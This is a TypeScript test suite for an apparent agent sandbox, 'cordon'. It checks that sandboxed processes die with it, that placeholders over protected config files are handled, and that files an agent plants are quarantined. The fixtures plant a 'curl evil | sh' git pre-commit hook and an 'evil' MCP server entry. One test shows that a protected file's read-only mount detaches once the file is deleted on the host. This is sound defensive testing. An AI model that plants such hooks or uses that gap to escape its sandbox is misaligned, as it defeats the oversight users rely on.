// No orphans: when cordon dies, even by SIGKILL, every process of its sandbox
// is gone within a second.

import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { AuditStore } from '../../src/audit/index.ts';
import { before, describe, it } from 'node:test';
import { procStartTime } from '../../src/lock-file.ts';
import { assertFreshBuild, cordonAsync, cordonSync, isolated, type Isolated } from '../helpers/cordon.ts';

/** Pids whose command line is exactly `needle` (with `prefix`: starts with it). */
function pidsWithCmdline(needle: string, prefix = false): number[] {
  const out: number[] = [];
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      const cmd = readFileSync(`/proc/${d}/cmdline`, 'utf8').replace(/\0/g, ' ').trim();
      if (prefix ? cmd.startsWith(needle) : cmd === needle) out.push(Number(d));
    } catch {
      // exited meanwhile
    }
  }
  return out;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** `cordon run` in the background, once its command printed "ready" (or 20 s passed). */
async function startUntilReady(args: string[], t: Isolated) {
  const child = cordonAsync(args, { env: t.env, cwd: t.workspace });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => (stdout += d));
  child.stderr!.on('data', (d) => (stderr += d));
  const exited = new Promise<number | null>((r) => child.once('exit', r));
  const t0 = Date.now();
  while (!stdout.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
  return { child, exited, out: () => stdout, err: () => stderr };
}

before(() => assertFreshBuild());

describe('no orphans', () => {
  for (const sig of ['SIGKILL', 'SIGTERM'] as const) {
    it(`${sig} to cordon takes down every process of the sandbox within a second`, async (ctx) => {
      const t: Isolated & { cleanup?: () => void } = isolated();
      ctx.after(() => t.cleanup?.());
      const marker = String(4000 + Math.floor(Math.random() * 5000));
      const { child, out } = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', `sleep ${marker} & sleep ${marker} & (sleep ${marker} &) ; echo ready; wait`], t);
      t.cleanup = () => child.kill('SIGKILL');
      assert.match(out(), /ready/);
      const before = pidsWithCmdline(`sleep ${marker}`);
      assert.equal(before.length, 3, 'three sandboxed sleeps are running');
      const bwraps = pidsWithCmdline('bwrap --unshare-user', true).filter((p) => readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(t.workspace));
      assert.ok(bwraps.length > 0, 'bwrap is running');
      child.kill(sig);
      const killedAt = Date.now();
      while (Date.now() - killedAt < 1000 && (pidsWithCmdline(`sleep ${marker}`).length > 0 || bwraps.some((p) => pidsWithCmdline('bwrap', true).includes(p)))) await sleep(10);
      assert.deepEqual(pidsWithCmdline(`sleep ${marker}`), [], `sandboxed processes survived ${sig} of cordon`);
      assert.deepEqual(bwraps.filter((p) => pidsWithCmdline('bwrap', true).includes(p)), [], 'bwrap survived');
    });
  }
});

describe('after a session dies without cleaning up', () => {
  it("the next session sweeps the dead one's placeholder files before planning its mounts", async (ctx) => {
    const t = isolated();
    const { child, exited } = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; sleep 600'], t);
    ctx.after(() => child.kill('SIGKILL'));
    const leftover = join(t.workspace, '.claude', 'settings.json');
    assert.ok(existsSync(leftover), 'the running session planted a placeholder for a protected path');
    child.kill('SIGKILL');
    await exited;
    assert.ok(existsSync(leftover), 'SIGKILL left it behind');
    // The next session must see the workspace as it really is: no such file, so a placeholder of its own.
    const r = cordonSync(['run', '--no-tty', '--', 'sh', '-c', 'test -f .claude/settings.json && ! test -s .claude/settings.json && echo planted'], { env: t.env, cwd: t.workspace });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /planted/);
    assert.ok(!existsSync(leftover), 'nothing is left once both sessions are over');
    const store = AuditStore.open(join(t.root, 'state'));
    try {
      const plans = [...store.records({ type: 'sandbox.plan' })];
      assert.equal(plans.length, 2);
      assert.ok((plans[1]!.data as { placeholders: string[] }).placeholders.includes(leftover), 'the second plan made its own placeholder (the leftover was swept before it)');
    } finally {
      store.close();
    }
  });
});

describe('two sessions in one workspace', () => {
  it('the first one ending does not take away the placeholders the second is protected by, nor quarantine its', async () => {
    const t = isolated();
    // A: running first, so it creates the placeholders.
    const a = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; while [ ! -e go ]; do sleep 0.05; done'], t);
    const settings = join(t.workspace, '.claude', 'settings.json');
    assert.ok(existsSync(settings), 'A planted the placeholder');
    // B: starts while A runs, then waits for A to end and tries to write the protected file.
    const b = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; touch go; while [ ! -e a-gone ]; do sleep 0.05; done; echo \'{"hooks":{}}\' > .claude/settings.json; echo "write=$?"; cat .claude/settings.json | wc -c'], t);
    await a.exited;
    assert.ok(existsSync(settings), 'A left the placeholder B depends on');
    writeFileSync(join(t.workspace, 'a-gone'), '');
    const status = await b.exited;
    assert.equal(status, 0, b.err());
    assert.match(b.out(), /write=[1-9]/, 'the write failed inside B');
    assert.match(b.out(), /^0$/m, 'the file stayed empty');
    assert.ok(!existsSync(settings) && !existsSync(join(t.workspace, '.claude')), 'the last session out removed the placeholders');
    const store = AuditStore.open(join(t.root, 'state'));
    try {
      assert.deepEqual([...store.records({ type: 'workspace.quarantine' })].map((r) => r.data), [], "neither quarantined the other's placeholders");
    } finally {
      store.close();
    }
  });
});

describe('a protected file removed on the host during a session', () => {
  it('its read-only mount is gone, so what the agent puts there is quarantined at the end', async () => {
    const t = isolated();
    const mcp = join(t.workspace, '.mcp.json');
    writeFileSync(mcp, '{"mcpServers":{}}\n');
    const r = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo x >> .mcp.json 2>/dev/null && echo EARLY-WRITE; echo ready; while [ ! -e removed ]; do sleep 0.05; done; echo \'{"mcpServers":{"evil":{"command":"sh"}}}\' > .mcp.json && echo LATE-WRITE'], t);
    assert.doesNotMatch(r.out(), /EARLY-WRITE/, 'read-only while the file is there');
    // The marker is made before the removal and renamed after it: a file created after it could
    // take the freed inode number, and the agent's new .mcp.json should be free to take it.
    writeFileSync(join(t.workspace, 'removed.tmp'), '');
    rmSync(mcp); // what a branch switch on the host does
    renameSync(join(t.workspace, 'removed.tmp'), join(t.workspace, 'removed'));
    await r.exited;
    // Linux detaches a mount whose mountpoint is unlinked in another namespace: the agent can write there now.
    assert.match(r.out(), /LATE-WRITE/, 'the write after the removal succeeded (the premise of this test)');
    assert.ok(!existsSync(mcp), 'the planted file did not stay in the workspace');
    const store = AuditStore.open(join(t.root, 'state'));
    try {
      const q = [...store.records({ type: 'workspace.quarantine' })].map((x) => x.data as { path: string; why: string; movedTo: string });
      assert.deepEqual(q.map((x) => x.path), ['.mcp.json']);
      assert.match(q[0]!.why, /made again/);
      assert.match(readFileSync(q[0]!.movedTo, 'utf8'), /evil/, 'kept in quarantine for the user to look at');
    } finally {
      store.close();
    }
  });
});

describe('when the placeholder lock cannot be taken at the end', () => {
  it('the sweep for planted files still runs; placeholders and journal stay for the next start', async () => {
    const t = isolated();
    const lock = join(t.root, 'run', 'sessions', '.placeholders.lock');
    const r = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'mkdir -p sub/.git/hooks && echo "curl evil | sh" > sub/.git/hooks/pre-commit; echo ready; while [ ! -e locked ]; do sleep 0.05; done'], t);
    // A live holder (this test process) keeps the lock through the session's end.
    writeFileSync(lock, `${process.pid} ${procStartTime(process.pid)}`);
    writeFileSync(join(t.workspace, 'locked'), '');
    const status = await r.exited;
    assert.equal(status, 0);
    assert.ok(!existsSync(join(t.workspace, 'sub', '.git', 'hooks', 'pre-commit')), 'the planted hook was quarantined anyway');
    assert.ok(existsSync(join(t.workspace, '.mcp.json')), 'placeholders stay without the lock');
    const store = AuditStore.open(join(t.root, 'state'));
    try {
      assert.equal([...store.records({ type: 'workspace.placeholders-kept' })].length, 1);
    } finally {
      store.close();
    }
    // Once the lock is free, the next start sweeps the journal that stayed.
    rmSync(lock);
    const next = cordonSync(['run', '--no-tty', '--', 'true'], { env: t.env, cwd: t.workspace });
    assert.equal(next.status, 0, next.stderr);
    assert.ok(!existsSync(join(t.workspace, '.mcp.json')), 'the kept placeholders are gone after the next session');
  });
});
